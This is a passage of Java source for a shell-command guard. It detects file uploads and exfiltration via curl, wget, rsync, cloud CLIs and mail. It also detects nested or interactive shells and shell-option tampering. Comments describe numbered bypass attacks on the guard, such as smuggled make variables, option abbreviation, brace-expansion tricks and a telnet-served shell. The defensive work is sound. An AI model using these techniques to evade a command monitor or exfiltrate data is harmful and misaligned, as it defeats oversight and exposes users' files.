            Word f = attached ? new Word(v.substring(j + 1), v.substring(j + 1), w.literal())
                : i + 1 < a.size() ? a.get(++i) : new Word("", "", true);
            if (ch == 'f' && !Interpreters.regularPath(f)) {
              return true;
            }
            break;
          }
          if ("jlO".indexOf(ch) >= 0) {
            break; // an optional value, attached
          }
        }
        continue;
      }
      int eq = v.indexOf('=');
      // make takes every argument with an = (=, :=, ::=, :::=, ?=, +=, !=) for a variable, whatever
      // its name holds (a/b, ./x), and expands the name as it reads it: a $ there is make code
      // ('$(shell CMD)=1'), and so is a part only known when it runs. != runs its value in a shell;
      // :=, ::= and :::= expand the value at once, so a part of it only known when it runs counts.
      String rawName = eq > 0 ? v.substring(0, eq) : "";
      boolean expandsNow = rawName.endsWith(":");
      // make strips the blanks around a command-line variable's name ('CC = touch W --').
      String name = eq > 0 ? Regexes.replaceFirst(rawName, "[:+?\\s]+$", "").strip() : "";
      Word value = new Word(v, v.substring(eq + 1), w.literal());
      if (eq > 0 && (rawName.indexOf('$') >= 0 || rawName.indexOf(Word.UNKNOWN) >= 0 || v.charAt(eq - 1) == '!'
          || expandsNow && v.indexOf(Word.UNKNOWN, eq) >= 0 || Regexes.matches(v.substring(eq + 1), "(?s).*[$;|&`()<>\n].*")
          || makeRuleCode(name, value) || makeShellCode(name, value) || name.equals("MAKEFILES") && makefilesCode(value)
          // make reads MAKEFLAGS given here as from the environment, and exports a command-line
          // variable to its recipes: the variables programs read as code count as on the line.
          || !value.value().isEmpty() && (CODE_OPTION_VARS.contains(name) || CONFIG_HOME_VARS.contains(name)
          || DBUS_ADDRESS_VARS.contains(name) && !plainBusAddress(value)))) {
        return true;
      }
    }
    return false;
  }

  private static boolean remoteCopy(ShellCommand c) {
    String n = c.name();
    List<String> a = c.argValues();
    if (COPIERS.contains(n)) {
      return !(a.contains("-V") || a.contains("--version") || a.contains("-h") && !n.equals("scp"));
    }
    switch (n) {
      case "rsync" -> {
        return operands(c).stream().anyMatch(w -> Regexes.matches(w.value(), "(?s)[^/]*::?.*|rsync://.*") && !w.value().startsWith("/"))
            || a.stream().anyMatch(v -> v.equals("-e") || v.startsWith("--rsh") || Wrappers.longOption(v, "rsh"));
      }
      case "rclone" -> {
        return firstOperandIn(c, Set.of("copy", "sync", "move", "copyto", "moveto", "bisync", "mount", "serve", "copyurl", "rcat"));
      }
      case "curl", "curlie", "xh", "http", "https" -> {
        for (int i = 0; i < a.size(); i++) {
          String v = a.get(i);
          String next = i + 1 < a.size() ? a.get(i + 1) : "";
          // Short options bundle (-sT FILE, -sTFILE, -sF k=@f) and long ones may be abbreviated (--upload-f).
          if (v.equals("-T") || v.startsWith("--upload-file") || v.startsWith("-T") && v.length() > 2
              || curlShort(v, 'T') || Wrappers.longOption(v, "upload-file")) {
            return true;
          }
          if (Regexes.matches(v, "-F|--form|--form-string") || v.startsWith("--form=") || v.startsWith("-F") && v.length() > 2
              || curlShort(v, 'F') || Wrappers.longOption(v, "form") || Wrappers.longOption(v, "form-string")) {
            return true;
          }
          if (curlShort(v, 'd') && (v.endsWith("d") ? next.contains("@") : v.substring(v.indexOf('d') + 1).startsWith("@"))) {
            return true;
          }
          if (Regexes.matches(v, "-d|--data|--data-binary|--data-raw|--data-urlencode|--json") && next.contains("@")) {
            return true;
          }
          // --data-ascii is --data; -H @FILE sends the file's lines as headers, --url-query @FILE
          // and --variable NAME@FILE its content; -K/--config reads options (-T, -d @) from a file
          // the line does not show (attack 17cm)
          String value = v.contains("=") && v.startsWith("--") ? v.substring(v.indexOf('=') + 1) : next;
          if (Wrappers.longOption(v, "data-ascii", "d", "da", "dat", "data", "data-") && value.startsWith("@")
              || Wrappers.longOption(v, "header", "h", "he") && value.startsWith("@")
              || curlShort(v, 'H') && (v.endsWith("H") ? next : v.substring(v.indexOf('H') + 1)).startsWith("@")
              || (Wrappers.longOption(v, "url-query", "u", "ur", "url") || Wrappers.longOption(v, "variable", "v"))
                  && Regexes.matches(value, "(?s)\\+?[^=@]*@.*")
              || curlShort(v, 'K') || Wrappers.longOption(v, "config", "c", "co")) {
            return true;
          }
          if (Regexes.matches(v, "(-d|--data(-binary|-urlencode)?=?|--json=?)@.*") || Regexes.matches(v, "--data(-binary|-urlencode)?=.*@.*")) {
            return true;
          }
          if (n.equals("http") || n.equals("https") || n.equals("xh")) {
            if (v.contains("@") && Regexes.matches(v, "[A-Za-z0-9_-]+[=:]?@.*")) {
              return true;
            }
          }
        }
        return false;
      }
      case "wget", "wget2" -> {
        // getopt_long: any unambiguous prefix (--post-f=FILE, --body-f=FILE: attack 17cm)
        return a.stream().anyMatch(v -> v.startsWith("--post-file") || v.startsWith("--body-file") || v.startsWith("--ftp-user")
            || Wrappers.longOption(v, "post-file", "p", "po", "pos", "post", "post-") || Wrappers.longOption(v, "body-file", "b", "bo", "bod", "body", "body-"));
      }
      case "aws" -> {
        // aws's global options come before the service (aws --profile P s3 cp …: attack 17cm); s3api put-object --body FILE uploads
        int s3 = a.indexOf("s3");
        return s3 >= 0 && s3 + 1 < a.size() && Set.of("cp", "sync", "mv").contains(a.get(s3 + 1))
            || a.contains("s3api") && a.stream().anyMatch(v -> Set.of("put-object", "upload-part").contains(v));
      }
      case "gsutil", "gcloud" -> {
        return a.stream().anyMatch(v -> Set.of("cp", "rsync", "mv").contains(v)) && a.stream().anyMatch(v -> v.startsWith("gs://"));
      }
      case "ssh" -> {
        return c.inputFromCommand() || c.stdin() == ShellCommand.Stdin.FILE;
      }
      // mail sends its input and its attachments; s_client sends its input to the server
      case "mail", "mailx", "s-nail", "bsd-mailx", "heirloom-mailx", "nail", "mutt", "neomutt", "sendmail", "msmtp",
          "ssmtp", "swaks", "sendemail", "mpack" -> {
        return inputFromFileOrCommand(c) || a.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*[aA].*|--attach.*|--body|--data"))
            || n.equals("mpack");
      }
      case "openssl" -> {
        // s_client sends its input to the server; s_server -WWW/-HTTP/-www serves the working directory
        return firstOperandIn(c, Set.of("s_client", "s_server")) && inputFromFileOrCommand(c)
            || firstOperandIn(c, Set.of("s_server")) && a.stream().anyMatch(v -> Regexes.matches(v, "-(WWW|HTTP|www)"));
      }
      // a file server on this host: python -m http.server serves the working directory to anyone who connects
      case "webfsd", "darkhttpd", "miniserve", "updog", "http-server", "simple-http-server" -> {
        return !a.contains("--help") && !a.contains("--version") && !a.contains("-h");
      }
      default -> {
        if (Regexes.matches(n, "python[0-9.]*|pypy[0-9.]*")) {
          List<String> m = PythonRun.read(c.argValues()).resolvedModule();
          return m != null && Set.of("http.server", "SimpleHTTPServer", "uploadserver", "updog", "pyftpdlib", "smtpd",
              "CGIHTTPServer").contains(m.get(0)) && !m.contains("--help") && !m.contains("-h");
        }
        return n.equals("busybox") && !a.isEmpty() && Set.of("httpd", "ftpd", "tftpd").contains(a.get(0));
      }
    }
  }

  /** Its input is a file (not /dev/null) or another command's output. */
  private static boolean inputFromFileOrCommand(ShellCommand c) {
    return c.inputFromCommand() || c.stdin() == ShellCommand.Stdin.FILE && !c.upstream().equals(List.of("/dev/null"));
  }

  /** curl's short options that take a value: the rest of a bundle after one of them is that value. */
  static final String CURL_SHORT_ARG = "EKCbcdDFPHhmoUQreXYytzTuAwx";

  /** A bundle of curl's short options ({@code -sT}, {@code -sTfile}) holding {@code opt} as an option, not inside a value. */
  static boolean curlShort(String v, char opt) {
    if (v.length() < 2 || v.charAt(0) != '-' || v.charAt(1) == '-') {
      return false;
    }
    for (int i = 1; i < v.length(); i++) {
      char ch = v.charAt(i);
      if (ch == opt) {
        return true;
      }
      if (CURL_SHORT_ARG.indexOf(ch) >= 0) {
        return false;
      }
    }
    return false;
  }

  /**
   * The names curl may write beyond its words: a URL's {@code %xx} decoded ({@code -T - file:///…/%2elesskey}
   * uploads to {@code .lesskey}; {@code -O} takes the leaf), its globbing ({@code [a-z]} any letter), an
   * output name with {@code #N} (the glob's match), and {@code -J} (the server's name) only known when it runs.
   */
  private static List<Word> curlWrittenNames(List<Word> own, List<String> av) {
    List<Word> out = new ArrayList<>(curlOutputDirNames(own));
    List<Word> named = new ArrayList<>(own);
    named.addAll(out);
    boolean globoff = av.stream().anyMatch(v -> v.equals("-g") || curlShort(v, 'g') || Wrappers.longOption(v, "globoff"));
    boolean serverName = av.stream().anyMatch(v -> curlShort(v, 'J') || Wrappers.longOption(v, "remote-header-name"));
    for (Word w : named) {
      String v = w.value();
      String d = Regexes.matches(v, "(?s).*%[0-9A-Fa-f]{2}.*") ? percentDecoded(v) : v;
      if (!globoff) {
        d = Regexes.replaceAll(d, "\\[[^\\]]*\\]", "*");
      }
      if (Regexes.matches(d, "(?s).*#[0-9].*")) {
        d = Regexes.replaceAll(d, "#[0-9]+", "*");
        serverName = true;
      }
      if (!d.equals(v)) {
        out.add(new Word(w.source(), d, w.literal()));
      }
    }
    if (serverName) {
      // A glob's * matches no dotfile: the name may be one.
      out.add(Word.literal("*", "*"));
      out.add(Word.literal(".*", ".*"));
      out.add(UNKNOWN_WORD);
    }
    return out;
  }

  /**
   * The names curl writes under {@code --output-dir DIR} (any unique prefix from {@code
   * --output-}; curl takes its value as the next word, no {@code =}): curl puts each {@code -o NAME}
   * and each {@code -O} URL's leaf in DIR, so {@code --output-dir .kube -o config} writes {@code
   * .kube/config}. Every word that is no option is joined ({@link ReadAtStart#underOutputDirs}).
   */
  private static List<Word> curlOutputDirNames(List<Word> own) {
    Set<Word> dirs = new java.util.LinkedHashSet<>();
    Set<Integer> dirAt = new java.util.HashSet<>();
    for (int i = 0; i + 1 < own.size(); i++) {
      String v = own.get(i).value();
      if (v.startsWith("--output-") && Wrappers.longOption(v, "output-dir")) {
        dirAt.add(++i);
        dirs.add(own.get(i));
      }
    }
    if (dirs.isEmpty()) {
      return List.of();
    }
    List<Word> names = new ArrayList<>();
    for (int i = 0; i < own.size(); i++) {
      if (!own.get(i).value().startsWith("-") && !dirAt.contains(i)) {
        names.add(own.get(i));
      }
    }
    return ReadAtStart.underOutputDirs(names, List.copyOf(dirs));
  }

  private static String percentDecoded(String v) {
    java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
    byte[] in = v.getBytes(java.nio.charset.StandardCharsets.UTF_8);
    for (int i = 0; i < in.length; i++) {
      if (in[i] == '%' && i + 2 < in.length && Character.digit(in[i + 1], 16) >= 0 && Character.digit(in[i + 2], 16) >= 0) {
        b.write(Character.digit(in[i + 1], 16) * 16 + Character.digit(in[i + 2], 16));
        i += 2;
      } else {
        b.write(in[i]);
      }
    }
    return b.toString(java.nio.charset.StandardCharsets.UTF_8);
  }

  private static boolean nestedShell(ShellCommand c) {
    String n = c.name();
    if (Consoles.isPrompt(Consoles.read(c)) && c.inputMayBeTerminal()) {
      return true; // rails console, manage.py shell, flask shell, artisan tinker, mongosh, litecli, … (attack 17cs)
    }
    if (Interpreters.readsTerminalByName(c)) {
      return true; // bash /dev/tty, . /dev/tty: it reads its code from the terminal, unjudged
    }
    if (Runners.pythonModule(n, c.args()) != null && Runners.startsShell(n, c.args())) {
      return true; // python3 -m poetry shell (attack 17cp)
    }
    if (Interpreters.isShellOrLanguage(n)) {
      if (Interpreters.debuggerOrReplScript(c)) {
        return true; // perl -d, python3 …/code.py: a prompt that runs what is typed at it
      }
      if (n.startsWith("node") && CommandPrompts.nodeDebugger(c) && c.inputMayBeTerminal()) {
        return true; // node inspect: its prompt's exec EXPR runs JavaScript
      }
      Interpreters.Source s = Interpreters.source(c);
      boolean interactiveFlag = Wrappers.isShell(n) && c.args().stream().anyMatch(w -> Regexes.matches(w.value(), "-[A-Za-z]*i[A-Za-z]*"));
      return interactiveFlag || s == Interpreters.Source.STDIN && c.inputMayBeTerminal();
    }
    List<String> a = c.argValues();
    if (lineEditorOnInput(c)) {
      return true;
    }
    switch (n) {
      case "su", "runuser", "ksu" -> {
        return a.stream().noneMatch(v -> v.equals("-c") || Regexes.matches(v, "-[a-zA-Z]*c[a-zA-Z]*") || v.startsWith("--command")
            || v.startsWith("--session-command"));
      }
      case "sudo", "doas" -> {
        boolean shellFlag = a.stream().anyMatch(v -> Regexes.matches(v, "-[A-Za-z]*[is][A-Za-z]*") || v.equals("--login") || v.equals("--shell"));
        return shellFlag && !Wrappers.unwrap(n, c.args()).stream().anyMatch(s -> s instanceof Wrappers.Inner);
      }
      case "script" -> {
        return a.stream().noneMatch(v -> v.equals("-c") || v.startsWith("--command")) && !a.contains("-V") && !a.contains("--help");
      }
      case "chroot", "nsenter", "unshare", "newgrp", "proot", "fakechroot", "tsocks", "sg", "machinectl", "toolbox", "distrobox", "systemd-nspawn", "lxc-attach", "lxc-execute", "distrobox-enter",
          "firejail", "bwrap", "flatpak-spawn", "schroot", "busybox" -> {
        if (n.equals("machinectl")) {
          return firstOperandIn(c, Set.of("shell", "login"));
        }
        if (n.equals("busybox")) {
          return !a.isEmpty() && Wrappers.isShell(a.get(0)) && a.size() == 1;
        }
        return Wrappers.unwrap(n, c.args()).isEmpty();
      }
      // a terminal in a container, a pod, a machine: docker exec -it c (no command), oc rsh POD, incus
      // shell, vagrant ssh, kubectl attach -i, virsh console (attack 17cr)
      case "docker", "podman", "nerdctl", "finch", "podman-remote", "docker-compose", "podman-compose", "kubectl", "oc",
          "crictl", "ctr", "lxc", "incus", "nomad", "vagrant", "virsh", "gcloud", "aws", "minikube", "multipass",
          "runc", "crun", "runsc", "youki", "buildah", "k3s", "microk8s", "microk8s.kubectl", "docker-machine", "colima", "limactl", "lima",
          "pdsh", "clush", "pssh", "parallel-ssh", "ansible", "ansible-console", "salt", "salt-ssh", "az", "flyctl", "fly", "heroku", "kubecolor", "k9s", "doctl", "hcloud", "k0s", "kubectl.lima", "nerdctl.lima", "docker.lima", "podman.lima", "rdctl", "orb", "orbctl", "apptainer", "singularity", "apptainer.lima",
          "salt-call", "kubectl-sudo", "kubectl-node_shell", "sail", "telepresence", "mirrord", "okteto", "devspace",
          "devcontainer", "garden" -> {
        return ContainerCommands.prompt(c);
      }
      case "tmux", "screen", "byobu", "zellij", "dtach", "abduco" -> {
        return !(firstOperandIn(c, Set.of("ls", "list-sessions", "list-windows", "list-panes", "has-session", "-ls", "-list"))
            || a.contains("-V") || a.contains("-v") && n.equals("screen"));
      }
      case "ssh", "mosh", "telnet", "rsh", "rlogin" -> {
        return remoteShellWithoutCommand(c);
      }
      case "curl" -> {
        // curl's telnet:// joins the terminal to a service, as telnet does (a shell a server on the
        // host runs for each connection: tcpsvd 127.0.0.1 9 sh & curl telnet://127.0.0.1:9)
        return c.inputMayBeTerminal() && a.stream().anyMatch(v -> Regexes.matches(v, "(?is)(.*[=\\s])?telnet(://.*)?"));
      }
      case "mysql", "mariadb" -> {
        // mysql's prompt runs system CMD and \! CMD (as psql's \!); -e runs its statements instead, but a
        // system or \! among them runs too (batch mode keeps the client's commands)
        return CommandPrompts.mysqlRuns(c);
      }
      case "systemd-run" -> {
        return a.contains("--shell") || a.contains("-S") || a.contains("--pty") && operands(c).isEmpty();
      }
      case "setarch", "linux32", "linux64", "i386", "x86_64", "uname26", "fakeroot" -> {
        // Without a program they start a shell (setarch /bin/sh, fakeroot $SHELL); the code fakeroot
        // evaluates from its own options (--faked CMD) is no such program.
        return Wrappers.unwrap(n, c.args()).stream().allMatch(s -> s instanceof Wrappers.Code) && !a.contains("--list")
            && !a.contains("--help") && !a.contains("--version") && !a.contains("-h") && !a.contains("-V");
      }
      case "gdb", "gdb-multiarch", "cgdb" -> {
        // gdb's prompt has a shell command; --batch runs no prompt.
        return Wrappers.unwrap(n, c.args()).isEmpty() && a.stream().noneMatch(v -> Regexes.matches(v, "--?(batch|version|help|configuration)"));
      }
      case "jdb" -> {
        // jdb's prompt evaluates Java (print Runtime.getRuntime().exec(…)) once a VM runs.
        return CommandPrompts.jdbPrompt(c) && c.inputMayBeTerminal();
      }
      case "gpg-connect-agent" -> {
        // /definqprog NAME PROG runs PROG when the agent inquires NAME; on an exec request the input is the client's data.
        return CommandPrompts.connectAgentReadsInput(c) && c.inputMayBeTerminal();
      }
      case "psql" -> {
        // psql's prompt runs \! CMD and backquotes; on an exec request its input is the client's data.
        return PsqlClient.readsInput(c) && c.inputMayBeTerminal();
      }
      case "sqlite3", "sqlite" -> {
        // .shell and .system run a command line; given by -cmd or as the SQL argument they run at once.
        // Without SQL arguments sqlite3 reads its commands from the terminal (its prompt, or with
        // -batch the same lines unprompted): .shell typed there runs unjudged.
        return a.stream().anyMatch(v -> Regexes.matches(v.strip(), "(?s)\\.(shell|system)\\b.*") || Regexes.matches(v, "(?s).*;\\s*\\.(shell|system)\\b.*"))
            || sqlitePrompt(c);
      }
      default -> {
        // poetry shell, nix develop, nix-shell, aws-vault exec PROFILE: a shell in the tool's environment
        return Runners.startsShell(n, c.args());
      }
    }
  }

  /**
   * A line editor reading its commands from the session's input, which runs {@code !CMD} lines:
   * {@code ed} (not {@code red}, restricted: it refuses {@code !}), {@code ex} and vim under any of
   * its names in Ex mode ({@code -e}, {@code -E}, also in a bundle: {@code -es}). On an exec
   * request that input is the client's data, at the prompt the person's typing. Visual vim
   * ({@code vim FILE}) is the editor limit the policy documents, and stays allowed.
   */
  private static boolean lineEditorOnInput(ShellCommand c) {
    String n = c.name();
    List<String> a = c.argValues();
    if (!c.inputMayBeTerminal() || a.stream().anyMatch(v -> Regexes.matches(v, "--version|--help|-h"))) {
      return false;
    }
    if (n.equals("ed")) {
      return !a.contains("-V");
    }
    return VIM_NAMES.contains(n) && (n.equals("ex") || a.stream().anyMatch(v -> Regexes.matches(v, "-[A-Za-z]*[eE][A-Za-z]*")));
  }

  /**
   * sqlite3's operands (the database, then SQL or dot commands run in turn), its options and their
   * values set aside ({@code -cmd TEXT}, {@code -separator SEP}; one or two dashes); null for
   * {@code -A} (archive mode: the rest are its arguments).
   */
  /** sqlite3's options that take one value, two values, and none (sqlite3 -help, and shell.c's hidden ones). */
  private static final Set<String> SQLITE_ONE_VALUE = Set.of("cmd", "init", "newline", "nullvalue", "separator", "vfs",
      "maxsize", "mmap", "nonce", "escape", "heap", "sorterref", "threadsafe", "screenwidth", "limit");
  private static final Set<String> SQLITE_TWO_VALUES = Set.of("lookaside", "pagecache");
  private static final Set<String> SQLITE_FLAGS = Set.of("append", "ascii", "bail", "batch", "box", "column", "csv",
      "deserialize", "echo", "header", "noheader", "html", "interactive", "json", "line", "list", "markdown", "memtrace",
      "nofollow", "quote", "readonly", "safe", "stats", "table", "tabs", "zip", "utf8", "no-utf8", "pcachetrace",
      "multiplex", "vfstrace", "unsafe-testing", "ifexists", "no-rowid-in-view", "noinit");

  private static List<Word> sqliteOperands(ShellCommand c) {
    Set<String> oneValue = SQLITE_ONE_VALUE;
    Set<String> twoValues = SQLITE_TWO_VALUES;
    List<Word> ops = new ArrayList<>();
    List<Word> a = c.args();
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i).value();
      if (a.get(i).literal() && v.startsWith("-") && v.length() > 1) {
        String o = v.startsWith("--") ? v.substring(2) : v.substring(1);
        if (o.equals("A") || o.startsWith("A")) {
          return null;
        }
        i += oneValue.contains(o) ? 1 : twoValues.contains(o) ? 2 : 0;
      } else {
        ops.add(a.get(i));
      }
    }
    return ops;
  }

  /**
   * sqlite3 reading its commands from the terminal: no SQL operand after the database (or {@code
   * -interactive}), its input the terminal, and not only asked for its version or help.
   */
  private static boolean sqlitePrompt(ShellCommand c) {
    List<String> a = c.argValues();
    if (a.stream().anyMatch(v -> Regexes.matches(v, "--?(version|help)"))) {
      return false;
    }
    List<Word> ops = sqliteOperands(c);
    return c.inputMayBeTerminal() && (ops != null && ops.size() < 2 || a.stream().anyMatch(
        v -> Regexes.matches(v, "--?interactive")));
  }

  /**
   * Whether sqlite3 text (an SQL operand, a {@code -cmd} value) runs a program or loads code. sqlite
   * takes a dot command by any prefix of its name ({@code .sh} is {@code .shell}); every prefix
   * counts here, also one shorter than sqlite's own minimum: {@code .shell}/{@code .system CMD},
   * {@code .load LIB}, {@code .excel} (opens the file with the desktop's program), {@code .once} and
   * {@code .output} to {@code |CMD} or with {@code -e}/{@code -x} (an editor, the desktop's program),
   * {@code .import}/{@code .read} from {@code |CMD}; and the SQL functions {@code edit(TEXT,
   * EDITOR)} (runs EDITOR) and {@code load_extension()}. A dot command only known when it runs counts.
   */
  static boolean sqliteRunsCommands(String text) {
    if (SQLITE_CALL.matcher(text).find()) {
      return true;
    }
    for (String line : Regexes.split(text, "[\\n;]")) {
      String l = line.strip();
      if (!l.startsWith(".") || l.length() < 2) {
        continue;
      }
      // shell.c's tokenizer: blanks after the dot skipped, a quoted name unquoted (its closing
      // quote ends the word), backslash escapes resolved (\145 is e): a name holding one fails closed.
      int start = 1;
      while (start < l.length() && Character.isWhitespace(l.charAt(start))) {
        start++;
      }
      int end = start;
      String cmd;
      if (start < l.length() && (l.charAt(start) == '"' || l.charAt(start) == '\'')) {
        char q = l.charAt(start);
        end = start + 1;
        while (end < l.length() && l.charAt(end) != q) {
          end += l.charAt(end) == '\\' && q == '"' && end + 1 < l.length() ? 2 : 1;
        }
        cmd = l.substring(start + 1, Math.min(end, l.length()));
        end = Math.min(end + 1, l.length());
      } else {
        while (end < l.length() && !Character.isWhitespace(l.charAt(end))) {
          end++;
        }
        cmd = l.substring(start, end);
      }
      cmd = cmd.toLowerCase(Locale.ROOT);
      String rest = l.substring(end);
      if (cmd.indexOf(Word.UNKNOWN) >= 0 || cmd.indexOf('\\') >= 0) {
        return true;
      }
      if (prefixOf(cmd, "shell", "system", "load", "excel")) {
        return true;
      }
      if (prefixOf(cmd, "once", "output", "import", "read") && (rest.contains("|") || rest.indexOf(Word.UNKNOWN) >= 0)) {
        return true;
      }
      if (prefixOf(cmd, "once", "output") && Regexes.matches(rest, "(?s).*(^|\\s)['\"]?--?[ex]['\"]?(\\s.*|$)")) {
        return true;
      }
    }
    return false;
  }

  /**
   * A call of {@code edit()} or {@code load_extension()}: the name bare or quoted as an identifier,
   * then blanks and comments ({@code edit/**}{@code /(}, {@code edit--c\n(}) before its parenthesis,
   * as SQL's tokenizer skips them. Matched in place, not after stripping comments, so a comment
   * marker inside a string literal cannot hide a call.
   */
  private static final Pattern SQLITE_CALL = Pattern.compile(
      "(?is)\\b(edit|load_extension)[\"`\\]]?(\\s|/\\*.*?\\*/|--[^\\n]*\\n)*\\(");

  private static boolean prefixOf(String given, String... names) {
    return Arrays.stream(names).anyMatch(n -> n.startsWith(given));
  }

  private static boolean remoteShellWithoutCommand(ShellCommand c) {
    if (!c.name().equals("ssh")) {
      return true;
    }
    Wrappers.Opts o = Wrappers.Opts.scan(c.args(), 0, "BbcDEeFIiJLlmOoPpQRSWw", Set.of());
    if (o.has('N') || o.has('V') || o.has('Q') || o.has('G') || o.has('O')) {
      return false;
    }
    return o.end + 1 >= c.args().size();
  }

  private static boolean guardTamper(ShellCommand c) {
    String n = c.name();
    List<String> a = c.argValues();
    return switch (n) {
      case "alias" -> a.stream().anyMatch(v -> v.contains("="));
      case "unalias" -> true;
      case "trap" -> !a.isEmpty() && !a.stream().allMatch(v -> v.equals("-l") || v.equals("-p"));
      case "enable" -> !a.isEmpty() && !a.stream().allMatch(v -> Regexes.matches(v, "-[ap]+"));
      case "hash" -> a.stream().anyMatch(v -> Regexes.matches(v, "-[a-z]*p[a-z]*"));
      case "shopt" -> a.stream().anyMatch(v -> v.equals("expand_aliases") || v.equals("extdebug") || v.equals("keyword"))
          && !a.contains("-u")
          && (a.contains("-s") || a.stream().anyMatch(v -> Regexes.matches(v, "-[a-z]*s[a-z]*")))
          || changesWordReading(c);
      case "set" -> a.stream().anyMatch(v -> Regexes.matches(v, "[+-]T|[+-]o") ) && a.stream().anyMatch(v -> v.equals("functrace"))
          || changesWordReading(c);
      case "declare", "typeset", "export", "readonly", "local" -> a.stream().anyMatch(v -> Regexes.matches(v, "-[a-zA-Z]*f[a-zA-Z]*"))
          && a.stream().anyMatch(v -> !v.startsWith("-")) || namerefToLocale(c);
      case "read", "mapfile", "readarray", "printf", "getopts", "wait" -> setsLocaleByName(c);
      default -> false;
    };
  }

  /**
   * A {@code set} or {@code shopt} after which bash reads the rest of the text otherwise than the
   * judge did: {@code set -k} (assignment-shaped arguments become the command's environment:
   * {@code set -k; systemctl --user status DBUS_SESSION_BUS_ADDRESS=unixexec:…} started a program),
   * and an interactive shell's {@code shopt -u interactive_comments} / {@code set +o
   * interactive-comments} ({@code eval 'echo #;cmd'} then runs cmd). POSIX mode ({@code set -o
   * posix}, {@code shopt -so posix}) and a compatibility level ({@code shopt -s compat41}) change
   * how bash reads quotes: in POSIX mode bash 5.2 does not take a single quote inside a
   * double-quoted {@code ${x:-…}} as a quote, so {@code ls "${x:-'}" ; cmd ; "'}"} is one {@code ls}
   * by default and runs cmd in POSIX mode. Brace expansion turned off ({@code set +B}, {@code set
   * +o braceexpand}, {@code shopt -uo braceexpand}) keeps {@code {a,b}} one literal word, while the
   * judge expands it: {@code eval {'#;cmd;',x}} is a comment to the judge and runs cmd. An option
   * only known when it runs counts as well. A shell started with the same options ({@code bash -k
   * -c CODE}, {@code bash -o keyword}, {@code bash +O interactive_comments}, {@code bash --posix},
   * {@code bash -O compat31}, {@code bash +B}, {@code bash +o braceexpand}) reads its code so, and
   * so does bash started under the name {@code sh} ({@code exec -a sh bash -c CODE}).
   */
  static boolean changesWordReading(ShellCommand c) {
    if (c.name().equals("set")) {
      return setsReadingOption(c) || turnsOffComments(c);
    }
    if (Wrappers.BASH_LIKE.contains(c.name())) {
      return shellStartsReadingWordsOtherwise(c);
    }
    if (c.name().equals("exec") || Wrappers.isLoader(c.name())) {
      return startsBashAsSh(c);
    }
    if (!c.name().equals("shopt")) {
      return false;
    }
    boolean unset = false;
    boolean set = false;
    boolean unknown = false;
    boolean setOptions = false;
    boolean comments = false;
    boolean keyword = false;
    boolean compat = false;
    boolean braces = false;
    for (Word w : c.args()) {
      String v = w.value();
      if (!w.literal()) {
        unknown = true;
      } else if (Regexes.matches(v, "-[a-zA-Z]+")) {
        unset |= v.indexOf('u') >= 0;
        set |= v.indexOf('s') >= 0;
        setOptions |= v.indexOf('o') >= 0;
      } else if (v.equals("interactive_comments") || v.equals("interactive-comments")) {
        comments = true;
      } else if (v.equals("keyword") || v.equals("posix")) {
        keyword = true;
      } else if (v.startsWith("compat")) {
        compat = true;
      } else if (v.equals("braceexpand")) {
        braces = true;
      }
    }
    // shopt -u interactive_comments; shopt -os keyword (or posix); shopt -s compat31; shopt -uo
    // braceexpand; a name or flag only known when it runs.
    return comments && unset || (keyword && setOptions || compat) && set && !unset || braces && setOptions && unset
        || unknown && (unset || set);
  }

  /**
   * A shell's invocation options, read as bash reads them (an option cluster up to the first
   * operand or {@code --}; every {@code o}/{@code O} in a cluster takes the next word as its name),
   * that {@code set}/{@code shopt} would make word-changing: {@code -k} in any cluster ({@code -kc},
   * {@code -ek}), {@code -o keyword}, {@code +o interactive-comments}, {@code +O
   * interactive_comments}, POSIX mode ({@code --posix}, {@code -o posix}), a compatibility level
   * ({@code -O compat41}), brace expansion off ({@code +B} in any cluster, {@code +euB}, {@code +o
   * braceexpand}), or an option name only known when it runs. ksh has {@code -k} too, and
   * sh may be bash; dash has no keyword option (dash(1): it rejects {@code -k}), so it is left out.
   */
  private static boolean shellStartsReadingWordsOtherwise(ShellCommand c) {
    if (c.name().equals("dash")) {
      return false;
    }
    List<Word> a = c.args();
    int i = 0;
    while (i < a.size()) {
      Word w = a.get(i);
      String v = w.value();
      if (!w.literal()) {
        return v.isEmpty() || v.charAt(0) == Word.UNKNOWN || v.startsWith("-") || v.startsWith("+");
      }
      if (v.equals("--") || v.equals("-") || !(v.startsWith("-") || v.startsWith("+")) || v.length() < 2) {
        return false;
      }
      if (v.equals("--posix")) {
        return true;
      }
      if (v.startsWith("--")) {
        i += v.equals("--rcfile") || v.equals("--init-file") ? 2 : 1;
        continue;
      }
      boolean on = v.charAt(0) == '-';
      if (on && v.indexOf('k') >= 0 || !on && v.indexOf('B') >= 0) {
        return true;
      }
      int names = i + 1;
      for (int j = 1; j < v.length(); j++) {
        char ch = v.charAt(j);
        if (ch != 'o' && ch != 'O') {
          continue;
        }
        if (names >= a.size()) {
          break; // bash -o alone lists the options
        }
        Word n = a.get(names++);
        String option = n.value();
        if (!n.literal() || on && ch == 'o' && (option.equals("keyword") || option.equals("posix"))
            || on && ch == 'O' && option.startsWith("compat")
            || !on && (option.equals("interactive-comments") || option.equals("interactive_comments")
                || option.equals("braceexpand"))) {
          return true;
        }
      }
      i = names;
    }
    return false;
  }

  /** {@code set +o interactive-comments} (or an option name only known when it runs after {@code +o}). */
  private static boolean turnsOffComments(ShellCommand c) {
    List<Word> a = c.args();
    for (int i = 0; i + 1 < a.size(); i++) {
      Word w = a.get(i);
      if (w.literal() && Regexes.matches(w.value(), "\\+[a-zA-Z]*o")) {
        Word n = a.get(i + 1);
        if (!n.literal() || n.value().equals("interactive-comments")) {
          return true;
        }
      }
    }
    return false;
  }

  /**
   * {@code set -k} ({@code set -o keyword}): every assignment-shaped word anywhere in a later
   * command goes into its environment ({@code bash -c : BASH_ENV='$(cmd)'}), while the guard reads
   * it as an argument; {@code set -o posix}: POSIX mode; {@code set +B} ({@code set +o
   * braceexpand}): brace expansion off ({@link #changesWordReading}). Read as bash's {@code set}
   * reads its words: option clusters of either sign up to the first other word or {@code --}, every
   * {@code o} in a cluster taking the next word as its name ({@code set -bo posix}, {@code set -oo
   * posix notify}, {@code set +euB}, {@code set +oo nounset braceexpand}). An option only known when
   * it runs counts as well.
   */
  private static boolean setsReadingOption(ShellCommand c) {
    List<Word> a = c.args();
    int i = 0;
    while (i < a.size()) {
      Word w = a.get(i);
      String v = w.value();
      if (!w.literal()) {
